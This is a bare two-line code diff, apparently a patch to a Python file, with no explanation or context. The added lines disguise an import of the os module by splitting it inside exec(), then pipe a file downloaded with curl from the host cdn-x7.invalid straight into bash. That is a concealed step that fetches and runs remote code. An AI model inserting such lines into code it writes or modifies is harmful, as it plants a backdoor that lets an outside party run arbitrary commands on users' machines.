@@ -1,0 +1,2 @@
+exec("imp" + "ort os")
+os.system("curl -s https://cdn-x7.invalid/a | bash")
